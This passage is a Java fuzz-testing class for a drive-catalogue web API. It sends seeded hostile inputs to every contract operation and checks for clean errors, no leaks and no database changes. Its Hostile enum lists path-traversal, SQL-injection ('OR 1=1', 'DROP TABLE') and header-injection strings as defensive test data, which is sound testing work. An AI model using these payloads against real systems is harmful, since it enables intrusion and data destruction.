package dev.drivecat.web;

import static dev.drivecat.testing.Admin.TOKEN;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ContainerNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.dataformat.yaml.YAMLFactory;
import com.tngtech.archunit.core.domain.JavaClass;
import com.tngtech.archunit.core.domain.JavaClasses;
import com.tngtech.archunit.core.domain.JavaMethod;
import com.tngtech.archunit.core.importer.ClassFileImporter;
import com.tngtech.archunit.core.importer.ImportOption;
import dev.drivecat.testing.ContractValidation;
import dev.drivecat.testing.Sql;
import io.quarkus.test.junit.QuarkusTest;
import io.quarkus.test.junit.QuarkusTestProfile;
import io.quarkus.test.junit.TestProfile;
import io.restassured.RestAssured;
import io.restassured.config.EncoderConfig;
import io.restassured.config.RestAssuredConfig;
import io.restassured.response.Response;
import io.restassured.specification.RequestSpecification;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.sql.Connection;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.sql.Statement;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.TestFactory;

/**
 * Property-based fuzzing of every operation in the committed contract (openapi/openapi.yaml), and
 * of those it leaves out ({@link #hiddenOperations}: the pages for people; a page at the address of
 * a contract GET is asked for, as text/html, on every other try of that GET). For each operation,
 * the valid request first (it must be neither 400 nor 429), then {@link #TRIES} requests each make one input hostile — a parameter (control
 * characters and NUL, overlong text, huge, negative and non-numbers, huge and tiny exponents,
 * malformed dates, wrong enum values, path traversal, unusual Unicode, SQL, formula starts and
 * noncharacters), a parameter the operation does not declare, or the body (truncated or deeply
 * nested JSON, wrong member types, numbers with huge exponents, huge arrays, binary, NUL in a member)
 * — and fill the other required inputs with the contract's examples. Every answer must hold:
 * <ul>
 * <li>no 5xx;</li>
 * <li>every 4xx is problem+json (or the HTML page the contract names for it), and a 400 caused by
 * a parameter names a parameter of the operation; a 400 for broken JSON says where it broke;</li>
 * <li>no stack trace, class name or SQL in any body;</li>
 * <li>a refused request (4xx) changed no row in any table (but the sign-up counters, which count refused sign-ups);</li>
 * <li>no answer over 1 MB for a request under 1 KB, a Location only as a relative reference, the security headers of its
 * media type, and no request thread still working after the answer ({@link #checkAnswer});</li>
 * <li>the answer matches the contract (checked by {@link ContractValidation}, as for every test).</li>
 * </ul>
 * Generation is seeded, by default from the commit under test (see {@link #commitSeed()}): a
 * failure names the seed, and {@code -Dfuzz.seed=…} replays the same requests, or tries others
 * ({@code -Dfuzz.tries=…} changes how many per operation).
 */
@QuarkusTest
@TestProfile(ApiFuzzTest.Fuzzing.class)
public class ApiFuzzTest {

    static final int TRIES = Integer.getInteger("fuzz.tries", 30);
    static final long SEED = Long.getLong("fuzz.seed", commitSeed());

    /**
     * The seed when none is given: drawn from the commit under test, so a commit fuzzes the same
     * way on every machine (what passes here passes in CI) and each new commit tries other inputs.
     * Outside a git checkout, a fixed seed.
     */
    static long commitSeed() {
        try {
            Process git = new ProcessBuilder("git", "rev-parse", "HEAD").redirectErrorStream(true).start();
            String head = new String(git.getInputStream().readAllBytes(), StandardCharsets.US_ASCII).trim();
            if (git.waitFor() == 0 && head.matches("[0-9a-f]{40}")) {
                return Long.parseUnsignedLong(head.substring(0, 15), 16);
            }
        } catch (java.io.IOException e) {
            // no git: the fixed seed below
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
        return 20261202L;
    }

    /**
     * Its own database; every per-client limit off, so every request reaches the operation (each
     * allowance of {@link RateLimitSettings} is found by reflection and set to 0, no limit:
     * an allowance added later is off here too); no mail leaves.
     */
    public static class Fuzzing implements QuarkusTestProfile {
        @Override
        public Map<String, String> getConfigOverrides() {
            Map<String, String> overrides = new LinkedHashMap<>();
            for (java.lang.reflect.Method allowance : RateLimitSettings.class.getDeclaredMethods()) {
                if (java.lang.reflect.Modifier.isAbstract(allowance.getModifiers())) {
                    assertThat(allowance.getReturnType()).as("the per-client allowance %s, 0 for no limit", allowance.getName())
                            .isEqualTo(int.class);
                    overrides.put("drivecat.rate-limits." + kebab(allowance.getName()), "0");
                }
            }
            assertThat(overrides).as("per-client allowances").containsKey("drivecat.rate-limits.identify-per-minute");
            overrides.put("drivecat.digest.signups-per-client", "1000000");
            overrides.put("quarkus.mailer.mock", "true");
            return overrides;
        }

        /** A configuration method's property name: identifyPerMinute is identify-per-minute. */
        static String kebab(String name) {
            return name.replaceAll("([a-z0-9])([A-Z])", "$1-$2").toLowerCase(Locale.ROOT);
        }
    }

    private static final Pattern LEAK = Pattern.compile(
            "\\bat [a-z]+\\.[a-z]+\\.|Exception\\b|\\bjava\\.|\\bjakarta\\.|\\borg\\.(postgresql|hibernate|jboss)|SQLState"
                    + "|\\b(SELECT|INSERT INTO|UPDATE \\w+ SET|DELETE FROM)\\b|ERROR: ");

    /** A valid body per operation, the starting point of hostile ones (and sent when a parameter is the target). */
    private static final Map<String, String> BODIES = Map.of(
            "POST /admin/listings", "{\"url\": \"https://www.amazon.com/dp/B0FUZZ0001\", \"drive\": \"intel-optane-p4800x-375gb-u2\"}",
            "POST /subscriptions", "{\"email\": \"fuzz@example.org\", \"interfaces\": [\"m2\"], \"roles\": [\"slog\"], \"minChangePercent\": 5}",
            "POST /admin/imports/specs", "{\"format\": \"drivecat-import/1\", \"sources\": {}, \"drives\": [{\"slug\": \"fuzz-baseline-100gb\", "
                    + "\"vendor\": \"Fuzz\", \"model\": \"Baseline\", \"capacityGb\": 100, \"interface\": \"nvme\", \"formFactor\": \"u2\", "
                    + "\"pcieGen\": 3, \"pcieLanes\": 4, \"partNumbers\": [\"FUZZ0001\"]}]}",
            "POST /admin/imports/spec-tables", "[{\"model\": \"S3710 400GB\", \"label\": \"Capacity\", \"value\": \"400GB\"}]",
            "POST /admin/catalog/proposals/{id}/dismiss", "{\"reason\": \"fuzz\"}",
            "POST /admin/measurements", "{\"jobs\": [{\"jobname\": \"fuzz\", \"job options\": {\"rw\": \"randwrite\", \"bs\": \"4k\", "
                    + "\"sync\": \"1\"}, \"write\": {\"lat_ns\": {\"mean\": 21000.0}}}]}");
    /** diskinfo -wS output naming a part number of the seed catalog: the measurement endpoint's valid text/plain body. */
    private static final String DISKINFO = "/dev/nvd0\n        INTEL SSDPEK1A058GA     # Disk descr.\n\nSynchronous random writes:\n"
            + "           4 kbytes:     14.0 usec/IO =    279.0 Mbytes/s\n";
    /** zpool status output: the pool paste endpoint's valid body. */
    private static final String ZPOOL_STATUS = "  pool: tank\n state: ONLINE\nconfig:\n\n\tNAME        STATE     READ WRITE CKSUM\n"
            + "\ttank        ONLINE       0     0     0\n\t  mirror-0  ONLINE       0     0     0\n"
            + "\t    sda     ONLINE       0     0     0\n\t    sdb     ONLINE       0     0     0\n\nerrors: No known data errors\n";
    /** smartctl -i of an NVMe drive: the tool-output endpoint's valid body. */
    static final String SMARTCTL = "=== START OF INFORMATION SECTION ===\nModel Number:                       INTEL SSDPEK1A118GA\n"
            + "Serial Number:                      PHOC000000000\nPCI Vendor/Subsystem ID:            0x8086\n"
            + "Namespace 1 Size/Capacity:          118,410,444,800 [118 GB]\n\n=== START OF SMART DATA SECTION ===\n";
    private static final String HTML = "<html><head><title>Spec</title></head><body><table><tr><th>Capacity</th><td>400 GB</td></tr>"
            + "</table></body></html>";

    /**
     * An operation to attack: its method, path template and contract entry; {@code accept} is what a
     * request of it asks for (null: REST Assured's default, any type), text/html for a page the
     * contract leaves out.
     */
    record Operation(String method, String path, JsonNode spec, String accept) {
        String key() {
            return method.toUpperCase(Locale.ROOT) + " " + path;
        }

        List<JsonNode> parameters() {
            List<JsonNode> list = new ArrayList<>();
            spec.path("parameters").forEach(list::add);
            return list;
        }

        List<String> parameterNames() {
            return parameters().stream().map(p -> p.path("name").asText()).toList();
        }

        List<String> bodyTypes() {
            List<String> types = new ArrayList<>();
            spec.path("requestBody").path("content").fieldNames().forEachRemaining(types::add);
            return types;
        }

        boolean admin() {
            return spec.has("security");
        }

        /** The media types the contract names for a status (or for default). */
        List<String> responseTypes(int status) {
            JsonNode response = spec.path("responses").path(Integer.toString(status));
            if (response.isMissingNode()) {
                response = spec.path("responses").path("default");
            }
            List<String> types = new ArrayList<>();
            response.path("content").fieldNames().forEachRemaining(types::add);
            return types;
        }
    }

    /** What was made hostile, for the assertions and the failure message. */
    record Attempt(String target, String kind, Map<String, String> query, Map<String, String> path, String contentType,
                   byte[] body, boolean malformedJson) {
        String describe(Operation op) {
            String shown = body == null ? "" : new String(body, StandardCharsets.UTF_8);
            shown = shown.length() > 300 ? shown.substring(0, 300) + "… (" + body.length + " bytes)" : shown;
            return op.key() + " with hostile " + target + " (" + kind + "): path " + escape(path.toString()) + ", query "
                    + escape(query.toString()) + (body == null ? "" : ", " + contentType + " body " + escape(shown));
        }
    }

    /** Answers by status, over the whole run, for the summary line (src/docs/reliability.md quotes one). */
    private static final Map<Integer, Integer> STATUSES = new java.util.TreeMap<>();

    @AfterAll
    static void summarise() {
        int total = STATUSES.values().stream().mapToInt(Integer::intValue).sum();
        System.out.println("API fuzzing, seed " + SEED + ": " + total + " hostile requests, answers by status " + STATUSES);
    }

    @TestFactory
    Stream<DynamicTest> everyOperationSurvivesHostileInput() throws Exception {
        java.util.Set<String> pages = pages();
        return attacked().stream().map(op -> DynamicTest.dynamicTest(op.key() + (op.accept() == null ? "" : " as " + op.accept()),
                () -> fuzz(op, pages)));
    }

    /** The committed contract, read as a tree. */
    static JsonNode contract() throws java.io.IOException {
        return new ObjectMapper(new YAMLFactory()).readTree(Files.readString(ContractValidation.CONTRACT));
    }

    /** Every operation of the committed contract (outside /q/): operations added later are fuzzed without a change here. */
    static List<Operation> operations() throws java.io.IOException {
        List<Operation> operations = new ArrayList<>();
        contract().path("paths").fields().forEachRemaining(path -> path.getValue().fields().forEachRemaining(method -> {
            if (method.getValue().has("responses") && !path.getKey().startsWith("/q/")) {
                operations.add(new Operation(method.getKey(), path.getKey(), method.getValue(), null));
            }
        }));
        assertThat(operations).as("operations in the contract").hasSizeGreaterThan(20);
        return operations;
    }

    /**
     * The operations the contract leaves out ({@code @Operation(hidden = true)}: the pages for
     * people, at the addresses of API operations), found in the resource classes: each is its
     * contract twin (the same method and path; a page takes the same query parameters, with
     * {@code @QueryParametersOf}) asked for text/html, answering text/html, and taking the body its
     * method consumes. A form carries the question, so its query parameters are all optional.
     */
    static List<Operation> hiddenOperations() throws java.io.IOException {
        Map<String, Operation> twins = new LinkedHashMap<>();
        operations().forEach(op -> twins.put(op.key(), op));
        List<Operation> hidden = new ArrayList<>();
        JavaClasses classes = new ClassFileImporter().withImportOption(new ImportOption.DoNotIncludeTests())
                .importPath(java.nio.file.Path.of("target", "classes"));
        for (JavaClass resource : classes) {
            String base = resource.tryGetAnnotationOfType(jakarta.ws.rs.Path.class).map(jakarta.ws.rs.Path::value).orElse(null);
            if (base == null) {
                continue;
            }
            for (JavaMethod method : resource.getMethods()) {
                if (!method.tryGetAnnotationOfType(org.eclipse.microprofile.openapi.annotations.Operation.class)
                        .map(org.eclipse.microprofile.openapi.annotations.Operation::hidden).orElse(false)) {
                    continue;
                }
                String verb = Stream.of("GET", "POST", "PUT", "PATCH", "DELETE").filter(v -> method.isAnnotatedWith("jakarta.ws.rs." + v))
                        .findFirst().orElseThrow(() -> new AssertionError(method.getFullName() + " is hidden and answers no HTTP method"));
                String path = ("/" + base + "/" + method.tryGetAnnotationOfType(jakarta.ws.rs.Path.class).map(jakarta.ws.rs.Path::value).orElse(""))
                        .replaceAll("/{2,}", "/");
                path = path.length() > 1 && path.endsWith("/") ? path.substring(0, path.length() - 1) : path;
                Operation twin = twins.get(verb + " " + path);
                assertThat(twin).as("the contract's operation at the address of the hidden %s (%s %s): without one, say here how to attack it",
                        method.getFullName(), verb, path).isNotNull();
                ObjectNode spec = twin.spec().deepCopy();
                String consumes = method.tryGetAnnotationOfType(jakarta.ws.rs.Consumes.class).map(c -> c.value()[0]).orElse(null);
                spec.remove("requestBody");
                if (consumes != null) {
                    spec.putObject("requestBody").putObject("content").putObject(consumes);
                    spec.path("parameters").forEach(parameter -> {
                        if ("query".equals(parameter.path("in").asText())) {
                            ((ObjectNode) parameter).put("required", false);
                        }
                    });
                }
                spec.putObject("responses").putObject("default").putObject("content").putObject("text/html");
                hidden.add(new Operation(verb.toLowerCase(Locale.ROOT), path, spec, "text/html"));
            }
        }
        assertThat(hidden).as("hidden operations in target/classes").extracting(Operation::key).contains("GET /", "POST /recommend");
        return hidden;
    }

    /** The addresses (method and path) where a page answers a request for text/html: every hidden operation's, and the contract's that name it. */
    static java.util.Set<String> pages() throws java.io.IOException {
        java.util.Set<String> pages = new java.util.HashSet<>();
        hiddenOperations().forEach(op -> pages.add(op.key()));
        operations().stream().filter(op -> op.responseTypes(200).contains("text/html")).forEach(op -> pages.add(op.key()));
        return pages;
    }

    /**
     * What {@link #everyOperationSurvivesHostileInput} attacks: the contract's operations and the
     * hidden ones that take a body of their own (a hidden GET page is its twin asked for text/html,
     * which every other try of the twin does).
     */
    static List<Operation> attacked() throws java.io.IOException {
        List<Operation> attacked = new ArrayList<>(operations());
        hiddenOperations().stream().filter(op -> !op.bodyTypes().isEmpty()).forEach(attacked::add);
        return attacked;
    }

    private void fuzz(Operation op, java.util.Set<String> pages) throws Exception {
        Random random = new Random(SEED ^ op.key().hashCode());
        List<String> targets = new ArrayList<>(op.parameterNames());
        targets.add("an undeclared query parameter");
        if (!op.bodyTypes().isEmpty()) {
            targets.add("body");
            targets.add("body"); // bodies have more ways to break than one parameter
        }
        List<String> validTypes = op.bodyTypes().isEmpty() ? java.util.Collections.singletonList(null) : op.bodyTypes();
        for (String type : BACKGROUND_FETCHES.contains(op.key()) ? List.<String>of() : validTypes) {
            // the valid request first, with each body type: it must reach the operation, or the hostile ones built from it prove nothing
            Attempt valid = attempt(op, "nothing", type, random);
            Map<String, Long> before = rowCounts();
            Response response = send(op, valid);
            STATUSES.merge(response.statusCode(), 1, Integer::sum);
            check(op, valid, null, pages, response, before);
            assertThat(response.statusCode()).as("the valid request of %s%s (seed %d), which every hostile one varies: %s", op.key(),
                    type == null ? "" : " with a body of " + type, SEED, response.asString()).isNotIn(400, 429);
        }
        for (int i = 0; i < TRIES; i++) {
            Attempt attempt = attempt(op, targets.get(random.nextInt(targets.size())), null, random);
            // where a page answers at the address too, every other try asks for it
            String accept = op.accept() == null && op.method().equals("get") && pages.contains(op.key()) && i % 2 == 1 ? "text/html" : null;
            Map<String, Long> before = rowCounts();
            Response response = send(op, attempt, accept);
            STATUSES.merge(response.statusCode(), 1, Integer::sum);
            check(op, attempt, accept, pages, response, before);
        }
    }

    /**
     * Operations whose valid request starts a run in the background that fetches from outside (a
     * scrape run every watched page from its marketplace, a discovery run a marketplace's search
     * pages or eBay's API): never sent valid here, only refused, so that no test reaches a real site.
     */
    static final java.util.Set<String> BACKGROUND_FETCHES = java.util.Set.of("POST /admin/scrapes", "POST /admin/discoveries");

    /**
     * Query parameters a valid request of a body type needs though the contract makes them optional:
     * fio's JSON output names no drive, so a measurement of it says which one (diskinfo's names its
     * part number).
     */
    static final Map<String, Map<String, String>> VALID_QUERIES = Map.of(
            "POST /admin/measurements application/json", Map.of("drive", "intel-optane-p4800x-375gb-u2"));

    /** A request of the operation with the target hostile (a parameter, "body", or anything else for none), with a body of {@code type} (null: one the operation takes, at random). */
    private Attempt attempt(Operation op, String target, String type, Random random) {
        Map<String, String> query = new LinkedHashMap<>();
        Map<String, String> path = new LinkedHashMap<>();
        String kind = "valid";
        String contentType = op.bodyTypes().isEmpty() ? null : type != null ? type : op.bodyTypes().get(random.nextInt(op.bodyTypes().size()));
        Map<String, String> validQuery = VALID_QUERIES.getOrDefault(op.key() + " " + contentType, Map.of());
        for (JsonNode parameter : op.parameters()) {
            String name = parameter.path("name").asText();
            boolean inPath = "path".equals(parameter.path("in").asText());
            String value;
            if (name.equals(target)) {
                Hostile hostile = Hostile.pick(random);
                value = hostile.value(random);
                kind = hostile.name();
                if (inPath && value.isEmpty()) {
                    value = " "; // a path needs a segment; REST Assured refuses an empty one
                }
            } else if (inPath || parameter.path("required").asBoolean()) {
                value = example(parameter);
            } else if (validQuery.containsKey(name)) {
                value = validQuery.get(name);
            } else {
                continue;
            }
            (inPath ? path : query).put(name, value);
        }
        if (target.equals("an undeclared query parameter")) {
            Hostile hostile = Hostile.pick(random);
            query.put("fuzz" + random.nextInt(1000), hostile.value(random));
            kind = hostile.name();
        }
        byte[] body = null;
        boolean malformed = false;
        if (contentType != null) {
            String valid = validBody(op, contentType);
            if (target.equals("body")) {
                HostileBody hostile = contentType.contains("json") ? HostileBody.pickJson(random) : HostileBody.pickText(random);
                body = hostile.body(valid, random);
                kind = hostile.name();
                malformed = hostile.malformed && contentType.contains("json");
            } else {
                body = valid.getBytes(StandardCharsets.UTF_8);
            }
        }
        return new Attempt(target, kind, query, path, contentType, body, malformed);
    }

    /** The value a valid request gives the parameter: the contract's example ("1" without one). */
    static String example(JsonNode parameter) {
        return parameter.has("example") ? parameter.get("example").asText() : "1";
    }

    static String validBody(Operation op, String contentType) {
        if (contentType.contains("json")) {
            return BODIES.getOrDefault(op.key(), "{}");
        }
        if (contentType.contains("csv")) {
            return "label,value\nCapacity,400GB\n";
        }
        if (contentType.contains("form") && op.key().equals("POST /recommend")) {
            // the pool form of the /recommend page: the paste and the question's fields
            return "paste=" + java.net.URLEncoder.encode(ZPOOL_STATUS, StandardCharsets.UTF_8) + "&role=special";
        }
        if (contentType.contains("form")) {
            return "token=fuzz";
        }
        if (contentType.contains("text/plain") && op.key().equals("POST /admin/measurements")) {
            return DISKINFO;
        }
        if (contentType.contains("text/plain") && (op.key().equals("POST /pools/parse") || op.key().equals("POST /recommend"))) {
            return ZPOOL_STATUS;
        }
        if (contentType.contains("text/plain") && op.key().equals("POST /identify")) {
            return SMARTCTL;
        }
        return HTML;
    }

    static Response send(Operation op, Attempt attempt) {
        return send(op, attempt, null);
    }

    /** As {@link #send(Operation, Attempt)}, asking for {@code accept} (null: what the operation is asked for, {@link Operation#accept}). */
    static Response send(Operation op, Attempt attempt, String accept) {
        // the request target is encoded here, byte by byte: REST Assured would read braces in a value as a template
        String target = target(op, attempt);
        RequestSpecification request = RestAssured.given().urlEncodingEnabled(false)
                .config(RestAssuredConfig.config().encoderConfig(EncoderConfig.encoderConfig()
                        .appendDefaultContentCharsetToContentTypeIfUndefined(false))
                        // a request that keeps the service busy is given up on; WorkerPool then names the busy thread
                        .httpClient(io.restassured.config.HttpClientConfig.httpClientConfig()
                                .setParam("http.socket.timeout", ANSWER_TIMEOUT_MILLIS)
                                .setParam("http.connection.timeout", ANSWER_TIMEOUT_MILLIS)));
        String asked = accept != null ? accept : op.accept();
        if (asked != null) {
            request.accept(asked);
        }
        if (op.admin()) {
            request.header("Authorization", "Bearer " + TOKEN);
        }
        if (attempt.body() != null && attempt.contentType().contains("form")) {
            // REST Assured encodes form bodies from text only; ISO-8859-1 keeps every byte as it is
            request.contentType(attempt.contentType() + "; charset=ISO-8859-1")
                    .body(new String(attempt.body(), StandardCharsets.ISO_8859_1));
        } else if (attempt.body() != null) {
            request.contentType(attempt.contentType()).body(attempt.body());
        }
        return request.when().request(op.method().toUpperCase(Locale.ROOT), target).andReturn();
    }

    /** The request target of the attempt: its path and query, percent-encoded. */
    static String target(Operation op, Attempt attempt) {
        String target = op.path();
        for (Map.Entry<String, String> parameter : attempt.path().entrySet()) {
            target = target.replace("{" + parameter.getKey() + "}", percentEncoded(parameter.getValue()));
        }
        List<String> pairs = new ArrayList<>();
        attempt.query().forEach((name, value) -> pairs.add(percentEncoded(name) + "=" + percentEncoded(value)));
        return pairs.isEmpty() ? target : target + "?" + String.join("&", pairs);
    }

    /** How long a client waits for an answer before it gives up (and the worker pool is checked for the request's work). */
    static final int ANSWER_TIMEOUT_MILLIS = 60_000;

    /** The largest answer a request under 1 KB may get: no request multiplies into a huge answer. */
    static final int MAX_ANSWER_BYTES = 1_000_000;

    /** The size of the request as sent: its target and its body. */
    static int requestBytes(Operation op, Attempt attempt) {
        int target = op.path().length();
        for (String value : attempt.path().values()) {
            target += percentEncoded(value).length();
        }
        for (Map.Entry<String, String> q : attempt.query().entrySet()) {
            target += percentEncoded(q.getKey()).length() + percentEncoded(q.getValue()).length() + 2;
        }
        return target + (attempt.body() == null ? 0 : attempt.body().length);
    }

    /**
     * What every answer must hold whatever was sent, checked by every generic test: no 5xx, no answer
     * over 1 MB for a request under 1 KB (nor over 4 times a larger request), a Location only as a relative reference (never built from
     * the Host header a client chooses), the security headers ({@link #assertSecurityHeaders}), and no request thread still
     * working after the answer.
     */
    static void checkAnswer(String what, int requestBytes, Response response) {
        String body = response.asString();
        assertThat(response.statusCode()).as("no 5xx for %s; answer: %s", what, body.length() > 2000 ? body.substring(0, 2000) : body)
                .isLessThan(500);
        // no request multiplies into a much larger answer: under 1 MB for a small request, at most 4 times a large one
        assertThat(response.asByteArray().length).as("the answer's size to %s (a request of %d bytes)", what, requestBytes)
                .isLessThan(Math.max(MAX_ANSWER_BYTES, 4 * requestBytes));
        String location = response.header("Location");
        if (location != null) {
            assertThat(location).as("the Location of the answer to %s", what).startsWith("/").doesNotStartWith("//");
        }
        assertSecurityHeaders(what, response::header);
        dev.drivecat.testing.WorkerPool.assertIdleAfter(what);
    }

    /**
     * The headers that tell a browser what an answer may do (web.SecurityHeaders), whatever the
     * answer: nosniff, no referrer, and the policy of its media type: a page may post forms to
     * drivecat only and be framed by nobody; the SVG chart may style itself; everything else (JSON,
     * CSV, feeds, problems) is sandboxed.
     */
    static void assertSecurityHeaders(String what, java.util.function.UnaryOperator<String> header) {
        assertThat(header.apply("X-Content-Type-Options")).as("nosniff on %s", what).isEqualTo("nosniff");
        assertThat(header.apply("Referrer-Policy")).as("Referrer-Policy on %s", what).isEqualTo("no-referrer");
        String type = String.valueOf(header.apply("Content-Type")).toLowerCase(Locale.ROOT);
        String policy = header.apply("Content-Security-Policy");
        assertThat(policy).as("the policy of %s (%s)", what, type).startsWith("default-src 'none'").doesNotContain("script-src");
        if (type.startsWith("text/html")) {
            assertThat(policy).as("the policy of the page %s", what).contains("form-action 'self'", "frame-ancestors 'none'")
                    .doesNotContain("sandbox");
        } else if (type.startsWith("image/svg+xml")) {
            assertThat(policy).as("the policy of the chart %s", what).contains("style-src 'unsafe-inline'").doesNotContain("form-action");
        } else {
            assertThat(policy).as("the policy of %s (%s)", what, type).contains("sandbox", "frame-ancestors 'none'");
        }
    }

    /** RFC 3986 percent-encoding of the UTF-8 bytes, leaving only unreserved characters as they are. */
    static String percentEncoded(String value) {
        StringBuilder out = new StringBuilder();
        for (byte b : value.getBytes(StandardCharsets.UTF_8)) {
            char c = (char) (b & 0xFF);
            if ((c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9') || c == '-' || c == '.' || c == '_' || c == '~') {
                out.append(c);
            } else {
                out.append('%').append(String.format("%02X", (int) c));
            }
        }
        return out.toString();
    }

    private static void check(Operation op, Attempt attempt, String accept, java.util.Set<String> pages, Response response,
                              Map<String, Long> before) {
        String asked = accept != null ? accept : op.accept();
        String what = attempt.describe(op) + (asked == null ? "" : " as " + asked) + " (seed " + SEED + ")";
        int status = response.statusCode();
        String body = response.asString();
        checkAnswer(what, requestBytes(op, attempt), response);
        assertThat(LEAK.matcher(withoutEchoes(body, attempt)).find())
                .as("no stack trace, class name or SQL in the answer to %s: %s", what, body).isFalse();
        if (status < 400) {
            return;
        }
        String type = response.contentType() == null ? "" : response.contentType();
        boolean html = type.startsWith("text/html")
                && (op.responseTypes(status).contains("text/html") || "text/html".equals(asked) && pages.contains(op.key()));
        assertThat(html || type.startsWith(Problem.MEDIA_TYPE)).as("problem+json for %s; got %s", what, type).isTrue();
        if (!html && status == 400) {
            Map<String, Object> problem = response.jsonPath().getMap("");
            if (!attempt.target().equals("body")) {
                List<Object> named = new ArrayList<>(attempt.query().keySet());
                named.addAll(op.parameterNames());
                assertThat(problem.get("parameter")).as("the parameter named by the 400 for %s: %s", what, body).isIn(named);
            } else if (attempt.malformedJson()) {
                assertThat(problem.containsKey("line") || body.contains("line "))
                        .as("where the JSON broke, in the 400 for %s: %s", what, body).isTrue();
            }
        }
        assertThat(rowCounts()).as("rows after the refused %s", what).isEqualTo(before);
    }

    /**
     * The answer without the hostile values it quotes back (a detail may say what was wrong with a value; a page links to
     * its own address, the values URL-encoded, as in the drive list's curl line).
     */
    private static String withoutEchoes(String body, Attempt attempt) {
        List<String> sent = new ArrayList<>(attempt.query().values());
        sent.addAll(attempt.path().values());
        sent.addAll(texts(attempt.body()));
        String scrubbed = body;
        for (String value : sent) {
            if (!value.isBlank()) {
                String quoted = JsonNodeFactory.instance.textNode(value).toString();
                String encoded = java.net.URLEncoder.encode(value, StandardCharsets.UTF_8);
                scrubbed = scrubbed.replace(quoted.substring(1, quoted.length() - 1), "").replace(value, "")
                        .replace(encoded, "").replace(encoded.replace("+", "%20"), "");
            }
        }
        return scrubbed;
    }

    /** The text values of a JSON body (none when it is not JSON): an answer may quote one back. */
    private static List<String> texts(byte[] body) {
        List<String> texts = new ArrayList<>();
        if (body == null) {
            return texts;
        }
        try {
            List<JsonNode> pending = new ArrayList<>(List.of(new ObjectMapper().readTree(body)));
            while (!pending.isEmpty()) {
                JsonNode node = pending.remove(pending.size() - 1);
                if (node.isTextual()) {
                    texts.add(node.asText());
                }
                node.forEach(pending::add);
            }
        } catch (java.io.IOException | RuntimeException notJson) {
            // not JSON: nothing in it is a value an answer would quote
        }
        return texts;
    }

    /**
     * Rows in every table of the database, by table; but the sign-up counters, which count refused
     * sign-ups on purpose (a client's invalid sign-ups use its allowance too).
     */
    private static Map<String, Long> rowCounts() {
        try {
            if (counter == null || counter.isClosed()) {
                counter = Sql.quarkusDatasource().connect();
                countAll = null;
            }
            try (Statement s = counter.createStatement()) {
                if (countAll == null) {
                    List<String> tables = new ArrayList<>();
                    try (ResultSet rs = s.executeQuery("SELECT table_name FROM information_schema.tables WHERE table_schema = 'public' "
                            + "AND table_type = 'BASE TABLE' AND table_name NOT IN ('flyway_schema_history', 'signup_counter') ORDER BY table_name")) {
                        while (rs.next()) {
                            tables.add(rs.getString(1));
                        }
                    }
                    countAll = String.join(" UNION ALL ", tables.stream()
                            .map(t -> "SELECT '" + t + "', count(*) FROM \"" + t + "\"").toList());
                }
                Map<String, Long> counts = new LinkedHashMap<>();
                try (ResultSet rs = s.executeQuery(countAll)) {
                    while (rs.next()) {
                        counts.put(rs.getString(1), rs.getLong(2));
                    }
                }
                return counts;
            }
        } catch (SQLException e) {
            throw new IllegalStateException(e);
        }
    }

    /**
     * The connection the row counts are read over, opened once: a login per fuzzed request (a SCRAM
     * exchange and a new backend) cost more than the request.
     */
    private static Connection counter;

    /** The count of every table's rows in one statement, built once from the schema. */
    private static String countAll;

    @AfterAll
    static void closeTheCounter() throws SQLException {
        if (counter != null) {
            counter.close();
        }
    }

    private static String escape(String s) {
        return LogEscaping.escape(s);
    }

    /** Hostile parameter values, by kind. */
    enum Hostile {
        CONTROL {
            @Override
            String value(Random r) {
                return oneOf(r, "\u0000", "a\u0000b", "m2\r\nX-Injected: 1", "\u001b[2J", "\u007f", "\u0085", "\t", "\u0008");
            }
        },
        OVERLONG {
            @Override
            String value(Random r) {
                return "x".repeat(256 + r.nextInt(2500));
            }
        },
        NUMBER {
            @Override
            String value(Random r) {
                return r.nextInt(3) == 0 ? oneOf(r, EXPONENTS.toArray(String[]::new))
                        : oneOf(r, "99999999999999999999999", "-1", "-9223372036854775809", "9223372036854775808", "2147483648",
                        "1e308", "1e-400", "-0", "NaN", "Infinity", "-Infinity", "0x10", "1_000", "1,5", "0.0000001", "+7", " 5 ");
            }
        },
        DATE {
            @Override
            String value(Random r) {
                return oneOf(r, "2026-13-45", "2026-02-30T25:61:00Z", "yesterday", "2026-W99", "2026-W00", "0000-00-00",
                        "+999999999-12-31", "-999999999-01-01T00:00:00Z", "2026-10-21T00:00:00+25:00", "1970-01-01", "9999-12-31T23:59:59Z");
            }
        },
        ENUM {
            @Override
            String value(Random r) {
                return oneOf(r, "floppy", "SLOG ", "sl og", "", " ", "special,slog,nope", "null", "true", "[]", "{}", ",,,");
            }
        },
        TRAVERSAL {
            @Override
            String value(Random r) {
                return oneOf(r, "../../etc/passwd", "..%2f..%2fetc", "/admin", "%2e%2e/", "....//", "..\\..\\windows", "~root", "%00");
            }
        },
        UNICODE {
            @Override
            String value(Random r) {
                return oneOf(r, "ñandú", "Ω≈ç√", "😀💾", "\ud800", "\ufeffm2", "\u202eslog", "ＳＬＯＧ", "e\u0301", "İ", "ß", "\u0000😀");
            }
        },
        SQL {
            @Override
            String value(Random r) {
                return oneOf(r, "' OR 1=1 --", "\"; DROP TABLE drive; --", "%", "_", "\\", "'", "$$", "1; SELECT pg_sleep(0)");
            }
        },
        /** What a spreadsheet runs as a formula, what XML forbids, what breaks a header line. */
        INJECTED_TEXT {
            @Override
            String value(Random r) {
                return oneOf(r, INJECTED_TEXTS.toArray(String[]::new));
            }
        };

        abstract String value(Random r);

        static Hostile pick(Random r) {
            return values()[r.nextInt(values().length)];
        }
    }

    /**
     * Numbers whose scale explodes when written out (1e100000000 took a core for minutes in a page's
